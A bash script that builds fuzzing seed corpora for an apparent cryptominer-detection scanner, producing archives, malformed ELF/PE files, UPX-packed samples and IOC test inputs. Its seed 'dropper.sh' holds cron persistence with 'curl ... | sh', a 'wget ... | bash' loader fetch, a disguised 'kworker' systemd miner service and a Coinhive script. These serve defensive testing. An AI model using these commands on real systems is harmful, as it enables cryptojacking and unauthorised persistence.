#!/usr/bin/env bash
# Make the seed corpora of the fuzz targets: make-seeds.sh OUT [STAMP]
# writes OUT/<target>/seed-*. The build runs it (tests/fuzz/meson.build)
# into the build directory, so the compiled ELF/PE seeds are made at build
# time and never committed; the committed tests/fuzz/<target>/ holds the
# text and archive seeds and the regression inputs the fuzzers found
# (regress-*). Needs cc, libarchive-dev (seedgen.c writes every archive
# format libarchive can write), python3, and for the PE seeds mingw-w64;
# the UPX-packed seeds of fuzz_upx are made only when UPX is found (`upx`
# on PATH, else ../shared/tools/upx beside the project).
#
# Nothing here is a real miner: the "miner" texts are strings from public
# descriptions of XMRig builds and configs, the programs are compiled from
# a few lines of C that hold such strings and are never run.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
[ $# -ge 1 ] || { echo "usage: make-seeds.sh OUT [STAMP]" >&2; exit 2; }
mkdir -p "$1"
out=$(cd "$1" && pwd)
stamp=${2:-}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

cc -O1 -o "$work/seedgen" "$here/seedgen.c" $(pkg-config --cflags --libs libarchive)
sg() { "$work/seedgen" "$@"; }

for t in fuzz_scan fuzz_unpack fuzz_features fuzz_iocs fuzz_report fuzz_capture fuzz_script fuzz_live fuzz_payload fuzz_upx fuzz_ruleprune; do
  mkdir -p "$out/$t"
  rm -f "$out/$t"/seed-*
done

# ---- contents ----
c=$work/c
mkdir -p "$c"
cat > "$c/config.json" <<'J'
{
  "autosave": true,
  "donate-level": 0,
  "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},
  "randomx": {"1gb-pages": true, "mode": "fast"},
  "pools": [{"url": "stratum+tcp://pool.example.com:3333",
             "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
             "pass": "x", "algo": "rx/0", "tls": false, "keepalive": true}]
}
J
cat > "$c/dropper.sh" <<'S'
#!/bin/sh
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -
chattr -i /etc/ld.so.preload 2>/dev/null
./.x -o stratum+tcp://pool.example.com:3333 -u 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa -p x --donate-level=0 -B
wget -q -O- http://198.51.100.7:8080/ldr | bash
echo 0x52908400098527886E0F7030069857D2E4169EE7 > /tmp/.w
S
cat > "$c/miner.txt" <<'T'
XMRig 6.21.0 built for linux
donate-level 1
randomx
use pool stratum+tcp://pool.example.com:3333 new job from pool
mining.subscribe mining.authorize mining.submit
{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}
T
printf 'hello, this is a plain text file\n' > "$c/clean.txt"
python3 - "$c" <<'P'
import base64, sys
c = sys.argv[1]
inner = open(c + "/dropper.sh", "rb").read()
b = base64.b64encode(inner).decode()
open(c + "/b64.sh", "w").write(
    "#!/bin/bash\necho %s | base64 -d | bash\n" % b)
# base64 of base64, wrapped lines, and a run that is not valid base64
open(c + "/b64-nested.txt", "w").write(
    base64.b64encode(b.encode()).decode() + "\n" + "A" * 45 + "=\n" + "QUFB" * 20 + "!\n")
open(c + "/systemd.service", "w").write(
    "[Unit]\nDescription=kworker\n[Service]\nExecStart=/usr/bin/.kw -o pool.supportxmr.com:443 --tls "
    "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n"
    "Restart=always\n")
open(c + "/webminer.html", "w").write(
    "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script><script>var m = new "
    "CoinHive.Anonymous('abc'); m.start();</script>\n")
open(c + "/urls.txt", "w").write(
    "stratum+ssl://[2001:db8::1]:443 stratum2+tcp://a.b:99999 stratum+tcp://:0 "
    "stratum+tcp://" + "x" * 300 + ".example:3333 xmr.pool.example.org:14444 "
    "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq 0x" + "ab" * 20 + " 4" + "A" * 94 + "\n")
P
printf '%s' '{"pools":[{"url":"' > "$c/trunc.json"

miner_c='#include <stdio.h>
static const char *s[] = {"XMRig/6.21.0", "donate-level", "randomx", "use pool",
  "new job from", "stratum+tcp://pool.example.com:3333", "mining.subscribe", 0};
int main(int c, char **v) { for (int i = 0; s[i]; i++) if (c > 5) puts(s[i]); return v[0][0] == 0; }'
clean_c='#include <stdio.h>
int main(void) { puts("hello"); return 0; }'
printf '%s\n' "$miner_c" > "$work/miner.c"
printf '%s\n' "$clean_c" > "$work/clean.c"
cc -Os -s -Wl,-z,noseparate-code -o "$c/miner.elf" "$work/miner.c"
cc -Os -s -Wl,-z,noseparate-code -o "$c/clean.elf" "$work/clean.c"
cc -Os -s -shared -fPIC -Wl,-z,noseparate-code -o "$c/lib.so" "$work/miner.c"
have_pe=0
if command -v x86_64-w64-mingw32-gcc >/dev/null; then
  x86_64-w64-mingw32-gcc -Os -s -o "$c/miner.exe" "$work/miner.c"
  x86_64-w64-mingw32-gcc -Os -s -shared -o "$c/lib.dll" "$work/clean.c"
  have_pe=1
fi
if command -v i686-w64-mingw32-gcc >/dev/null; then
  i686-w64-mingw32-gcc -Os -s -o "$c/miner32.exe" "$work/miner.c"
fi

# ---- archives: every format and filter libarchive writes ----
a=$work/a
mkdir -p "$a"
mem=(config.json="$c/config.json" bin/x.sh="$c/dropper.sh" readme.txt="$c/clean.txt")
for fmt in ustar pax gnutar v7tar cpio newc odc ar arbsd zip 7zip xar shar mtree warc; do
  sg "$a/$fmt" "$fmt" none - - "${mem[@]}"
done
sg "$a/iso9660" iso9660 none 'iso9660:!pad,iso9660:!rockridge,iso9660:!joliet' - "${mem[@]}"
for f in gzip bzip2 xz lzma lzip lz4 zstd compress uuencode b64encode; do
  sg "$a/tar.$f" ustar "$f" - - config.json="$c/config.json" x.sh="$c/dropper.sh"
  sg "$a/raw.$f" raw "$f" - - config.json="$c/config.json"
done
for m in store deflate; do
  sg "$a/zip-$m" zip none "zip:compression=$m" - "${mem[@]}"
done
for m in copy deflate bzip2 lzma1 lzma2 ppmd; do
  sg "$a/7z-$m" 7zip none "7zip:compression=$m" - config.json="$c/config.json"
done
sg "$a/zip-zipcrypt" zip none zip:encryption=zipcrypt secret "${mem[@]}"
sg "$a/zip-aes256" zip none zip:encryption=aes256 secret config.json="$c/config.json"
# odd entries: directories, symlinks, traversal, control bytes, not UTF-8
ln -sf "$c/clean.txt" "$work/n1"
sg "$a/tar-odd" pax none pax:hdrcharset=BINARY - d/=dir d/l=link:../../etc/passwd "../../up.txt=$c/clean.txt" \
  "/abs/path.txt=$c/clean.txt" "$(printf 'nl\nname\033[31m.txt')=$c/clean.txt" \
  "$(printf 'bad\xff\xfe.sh')=$c/dropper.sh" "empty=/dev/null"
# nesting: tar.gz holding a zip holding a gzip holding the config
sg "$work/n.gz" raw gzip - - config.json="$c/config.json"
sg "$work/n.zip" zip none - - inner/config.json.gz="$work/n.gz" miner.txt="$c/miner.txt"
sg "$a/nested.tar.gz" ustar gzip - - layer.zip="$work/n.zip" x.sh="$c/dropper.sh"
# deeper than the fuzzers' max-depth (4): six levels of gzip
cp "$c/miner.txt" "$work/d0"
for i in 1 2 3 4 5 6; do sg "$work/d$i" raw gzip - - x="$work/d$((i - 1))"; done
cp "$work/d6" "$a/deep.gz"
# a deb: ar of debian-binary, control.tar.gz, data.tar.xz
printf '2.0\n' > "$work/debian-binary"
printf 'Package: x\nVersion: 1\n' > "$work/control"
sg "$work/control.tar.gz" ustar gzip - - ./control="$work/control"
sg "$work/data.tar.xz" ustar xz - - ./usr/bin/x.sh="$c/dropper.sh"
sg "$a/pkg.deb" ar none - - debian-binary="$work/debian-binary" \
  control.tar.gz="$work/control.tar.gz" data.tar.xz="$work/data.tar.xz"
# bombs, scaled to the fuzzers' limits: 2 MiB of zeros (> max-filesize 1 MiB),
# and 100 entries (> max-entries 64)
head -c $((2 << 20)) /dev/zero > "$work/zeros"
sg "$a/bomb.zip" zip none - - zeros="$work/zeros"
sg "$a/bomb.gz" raw gzip - - zeros="$work/zeros"
many=()
for i in $(seq 1 100); do many+=("f$i=$c/clean.txt"); done
sg "$a/many.zip" zip none zip:compression=store - "${many[@]}"
# an rpm (lead, empty signature and header, gzip cpio payload) and a
# self-extracting-style ELF with a zip appended
sg "$work/payload.cpio.gz" newc gzip - - ./usr/bin/x.sh="$c/dropper.sh"
python3 - "$work/payload.cpio.gz" "$a/pkg.rpm" <<'P'
import struct, sys
payload = open(sys.argv[1], "rb").read()
lead = b"\xed\xab\xee\xdb" + bytes([3, 0]) + struct.pack(">hh", 0, 1) + b"x-1-1".ljust(66, b"\0") \
    + struct.pack(">hh", 1, 5) + b"\0" * 16
hdr = b"\x8e\xad\xe8\x01" + b"\0" * 4 + struct.pack(">ii", 0, 0)
open(sys.argv[2], "wb").write(lead + hdr + hdr + payload)
P
cat "$c/clean.elf" "$a/zip-deflate" > "$a/sfx.elf"
# truncated and corrupted archives
head -c 600 "$a/tar.gzip" > "$a/trunc.tar.gz" 2>/dev/null || true
head -c 60 "$a/tar.gzip" > "$a/trunc60.tar.gz"
head -c 100 "$a/zip" > "$a/trunc.zip"
python3 - "$a" <<'P'
import sys
d = sys.argv[1]
z = bytearray(open(d + "/zip-deflate", "rb").read())
# corrupt the central directory's sizes and offsets
i = z.find(b"PK\x01\x02")
if i >= 0:
    z[i + 20:i + 28] = b"\xff" * 8
    z[i + 42:i + 46] = b"\xff\xff\xff\x7f"
open(d + "/corrupt.zip", "wb").write(bytes(z))
t = bytearray(open(d + "/ustar", "rb").read())
t[124:136] = b"77777777777\0"   # size field: 8 GiB
open(d + "/bigsize.tar", "wb").write(bytes(t))
P

# ---- fuzz_unpack: the archives ----
for f in "$a"/*; do cp "$f" "$out/fuzz_unpack/seed-$(basename "$f")"; done

# ---- fuzz_features: executables and broken headers ----
ff=$out/fuzz_features
for f in miner.elf clean.elf lib.so miner.exe lib.dll miner32.exe; do
  [ -f "$c/$f" ] && cp "$c/$f" "$ff/seed-$f"
done
python3 - "$c" "$ff" "$have_pe" <<'P'
import struct, sys
c, out, have_pe = sys.argv[1], sys.argv[2], sys.argv[3] == "1"
def w(name, data):
    open(out + "/seed-" + name, "wb").write(bytes(data))
elf = bytearray(open(c + "/clean.elf", "rb").read())
w("elf-64b", elf[:64])
w("elf-100b", elf[:100])
w("elf-half", elf[:len(elf) // 2])
m = bytearray(elf); m[0x28:0x30] = struct.pack("<Q", 0xfffffffffff0)     # e_shoff
w("elf-shoff", m)
m = bytearray(elf); m[0x3c:0x3e] = b"\xff\xff"                         # e_shnum
w("elf-shnum", m)
m = bytearray(elf); m[0x3e:0x40] = b"\xfe\xff"                         # e_shstrndx
w("elf-shstrndx", m)
m = bytearray(elf); m[0x20:0x28] = struct.pack("<Q", len(elf) - 8); m[0x38:0x3a] = b"\xff\xff"
w("elf-phdrs", m)
m = bytearray(elf); m[4] = 1                                           # claims ELFCLASS32
w("elf-class32", m)
m = bytearray(elf); m[5] = 2                                           # claims big-endian
w("elf-bigendian", m)
# every section header: offset past the end, size huge
m = bytearray(elf)
shoff, shentsize, shnum = struct.unpack_from("<Q", m, 0x28)[0], *struct.unpack_from("<HH", m, 0x3a)
for k in range(shnum):
    o = shoff + k * shentsize
    if o + 0x28 <= len(m):
        m[o + 0x18:o + 0x28] = struct.pack("<QQ", 0x7ffffff0, 0xffffffffffff)
w("elf-sections", m)
w("elf-header-only", elf[:64] + b"\0" * 64)
if have_pe:
    pe = bytearray(open(c + "/miner.exe", "rb").read())
    lfa = struct.unpack_from("<I", pe, 0x3c)[0]
    w("pe-truncated", pe[:lfa + 24])
    w("pe-256b", pe[:256])
    m = bytearray(pe); m[0x3c:0x40] = struct.pack("<I", len(pe) - 2)      # e_lfanew near the end
    w("pe-lfanew-end", m)
    m = bytearray(pe); m[0x3c:0x40] = struct.pack("<I", 0x7fffffff)
    w("pe-lfanew-huge", m)
    m = bytearray(pe); m[lfa + 6:lfa + 8] = b"\xff\xff"                    # NumberOfSections
    w("pe-nsections", m)
    m = bytearray(pe); m[lfa + 20:lfa + 22] = b"\xff\xff"                  # SizeOfOptionalHeader
    w("pe-optsize", m)
    m = bytearray(pe); m[lfa + 24:lfa + 26] = b"\x0b\x01"                  # PE32 magic on a PE32+ body
    w("pe-magic32", m)
    # import directory RVA and size at the end of the address space
    m = bytearray(pe); m[lfa + 24 + 112 + 8:lfa + 24 + 112 + 16] = struct.pack("<II", 0xfffffff0, 0x100)
    w("pe-imports", m)
    w("mz-only", b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0")
P

# ---- fuzz_iocs: configs, scripts, base64 ----
for f in config.json dropper.sh miner.txt clean.txt b64.sh b64-nested.txt systemd.service webminer.html urls.txt trunc.json; do
  cp "$c/$f" "$out/fuzz_iocs/seed-$f"
done

# ---- fuzz_script: the scripts ----
for f in dropper.sh b64.sh clean.txt webminer.html systemd.service; do
  cp "$c/$f" "$out/fuzz_script/seed-$f"
done

# ---- fuzz_ruleprune: the built-in rule sources, one file each ----
for f in "$here"/../../signatures/*.yar; do
  cp "$f" "$out/fuzz_ruleprune/seed-$(basename "$f")"
done

# ---- fuzz_scan: a bit of everything ----
fs=$out/fuzz_scan
for f in config.json dropper.sh miner.txt b64.sh systemd.service webminer.html miner.elf miner.exe; do
  [ -f "$c/$f" ] && cp "$c/$f" "$fs/seed-$f"
done
for f in tar.gzip tar.xz zip-deflate 7z-lzma2 cpio ar nested.tar.gz deep.gz pkg.deb pkg.rpm sfx.elf \
         zip-zipcrypt bomb.zip bomb.gz many.zip tar-odd corrupt.zip trunc.tar.gz raw.zstd; do
  cp "$a/$f" "$fs/seed-$f"
done

# ---- fuzz_upx: the programs packed by UPX with every method, some of
# them tampered (magic zeroed, PackHeader damaged), and the plain ones ----
fu=$out/fuzz_upx
for f in miner.elf clean.elf lib.so miner.exe miner32.exe; do
  [ -f "$c/$f" ] && cp "$c/$f" "$fu/seed-plain-$f"
done
upx=$(command -v upx || true)
if [ -z "$upx" ] && [ -x "$here/../../../shared/tools/upx" ]; then
  upx=$here/../../../shared/tools/upx
fi
if [ -n "$upx" ]; then
  # unstripped: UPX finds the stripped 6 KiB x86-64 one not compressible
  cc -O1 -o "$c/miner-amd64.elf" "$work/miner.c"
  cc -m32 -Os -s -o "$c/miner-i386.elf" "$work/miner.c" 2>/dev/null || true
  for f in miner-amd64.elf miner-i386.elf miner.exe miner32.exe; do
    [ -f "$c/$f" ] || continue
    for m in nrv2b nrv2d nrv2e lzma; do
      # UPX packs only files with the execute bit; --force for tiny ones
      "$upx" -q --force --$m -o "$fu/seed-$m-$f" "$c/$f" >/dev/null 2>&1 || rm -f "$fu/seed-$m-$f"
    done
  done
  python3 - "$fu" <<'P'
import glob, os, sys
fu = sys.argv[1]
for path in sorted(glob.glob(fu + "/seed-lzma-*")) + sorted(glob.glob(fu + "/seed-nrv2b-*")):
    d = bytearray(open(path, "rb").read())
    z = d.replace(b"UPX!", b"\0\0\0\0")
    open(path.replace("/seed-", "/seed-nomagic-"), "wb").write(bytes(z))
    i = d.find(b"UPX!", 0x100) if d[:2] == b"MZ" else d.rfind(b"UPX!")
    if i >= 0:
        for k in range(4, 32):
            d[i + k] ^= 0x5a
        open(path.replace("/seed-", "/seed-badhdr-"), "wb").write(bytes(d))
P
  # the engine's hook too
  [ -f "$fu/seed-lzma-miner-amd64.elf" ] && cp "$fu/seed-lzma-miner-amd64.elf" "$out/fuzz_scan/seed-upx-miner.elf"
  [ -f "$fu/seed-nrv2e-miner.exe" ] && cp "$fu/seed-nrv2e-miner.exe" "$out/fuzz_scan/seed-upx-miner.exe"
else
  echo "make-seeds: UPX not found, no packed seeds for fuzz_upx" >&2
fi

# ---- fuzz_report: records in the byte format of fuzz_report.c ----
python3 - "$out/fuzz_report" <<'P'
import struct, sys
out = sys.argv[1]
def s(b):
    if isinstance(b, str): b = b.encode()
    if len(b) >= 255: return bytes([255]) + struct.pack(">H", len(b)) + b
    return bytes([len(b)]) + b
def rec(flags, kind, cls, depth, size, path, reason=b"", desc=b"", rules=(), model=None,
        pools=(), wallets=(), config=None, hash_list=b"", allowed=b""):
    b = bytes([flags, kind, cls, depth]) + struct.pack(">Q", size) + s(path)
    if flags & 2: b += s(reason)
    if flags & 4: b += s(desc)
    if flags & 8: b += bytes(range(64))
    b += bytes([len(rules)])
    for r in rules:
        b += b"".join(s(x) for x in r) + struct.pack(">Q", 12) + bytes([5])
    if flags & 16:
        b += bytes([model[0], model[1], len(model[2])])
        for f, v, wt in model[2]:
            b += bytes([f]) + struct.pack(">d", v) + struct.pack(">d", wt)
    b += bytes([len(pools)]) + b"".join(s(p) for p in pools)
    b += bytes([len(wallets)]) + b"".join(s(c) + s(a) for c, a in wallets)
    if flags & 32:
        b += s(config[0]) + s(config[1]) + s(config[2]) + bytes([config[3], config[4]])
    if flags & 64: b += s(hash_list)
    if flags & 128: b += s(allowed)
    return b
hit = ("xmrig_strings", "builtin", "xmrig", "miner", "high", "XMRig miner strings")
seeds = {
  "plain": b"\0\0\0" + rec(4, 0, 1, 0, 100, "/usr/bin/true", desc="ELF 64-bit LSB pie executable"),
  "escapes": b"\0\0\0" + rec(0x03, 3, 0, 0, 0, b"dir/\x1b[31mred\x1b[0m\nfake: malicious\r\x07\x9b\x7f",
       reason=b"read: \x1b]0;title\x07 \"quoted\" \\back\\ \x00tail"),
  "not-utf8": b"\0\0\0" + rec(0x02, 1, 0, 0, 0, b"bad\xff\xfe\xc0\xaf\xed\xa0\x80name", reason="fifo"),
  "unicode": b"\0\0\0" + rec(0x06, 2, 4, 1, 5, "a.tar!\u00e9t\u00e9/\u202eexe.txt/\u2028\U0001f600",
       reason="limit: max-depth 16", desc="\u0085 NEL and \u009b CSI"),
  "longpath": b"\0\1\0" + rec(0x02, 3, 0, 0, 0, "x/" * 3000, reason="y" * 4000),
}
mal = rec(0x1f | 0x20 | 0x40 | 0x80, 5, 1, 0, 9026768, "image.tar!layer.tar.gz!usr/bin/xmrig",
          reason="a member is malicious", desc="ELF", rules=[hit, (hit[0], "user.yar") + hit[2:]],
          model=(250, 204, [(3, 1.5, 2.25), (7, -0.0, 1e308), (9, 5e-324, -1.0)]),
          pools=["stratum+tcp://pool.example.com:3333", "pool.example.org:443\x1b[2J"],
          wallets=[("xmr", "4" + "A" * 94), ("btc", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")],
          config=("rx/0", "worker\n1", "x\"y", 1, 2), hash_list="bad.txt", allowed="good\x01.txt")
seeds["malicious"] = b"\1\0\5" + mal
seeds["many"] = b"\0\0\0" + b"".join(rec(0x02, k % 6, k % 7, k % 3, k, "f%d" % k, reason="r%d" % k)
                                      for k in range(16))
for name, data in seeds.items():
    open(out + "/seed-" + name, "wb").write(data)
P

# ---- fuzz_payload: the compiled programs, one with an executable and
# compressed streams appended (made here, never committed) ----
for f in "$out"/fuzz_features/seed-*; do
  cp "$f" "$out/fuzz_payload/$(basename "$f")"
done
first=$(ls "$out"/fuzz_features/seed-* 2>/dev/null | head -1)
if [ -n "$first" ]; then
  { cat "$first"; printf 'pad%.0s' $(seq 40); cat "$first";
    printf '{"pools":[{"url":"stratum+tcp://p.example.com:3333"}]}' | xz -c;
    printf '{"pools":[{"url":"stratum+tcp://p.example.com:3333"}]}' | gzip -c; } > "$out/fuzz_payload/seed-carrier"
fi

chmod 644 "$out"/fuzz_*/seed-*
du -sh "$out"/fuzz_*/ | sed "s|$out/||" >&2
du -sch "$out"/fuzz_*/ | tail -1 >&2
[ -z "$stamp" ] || touch "$stamp"
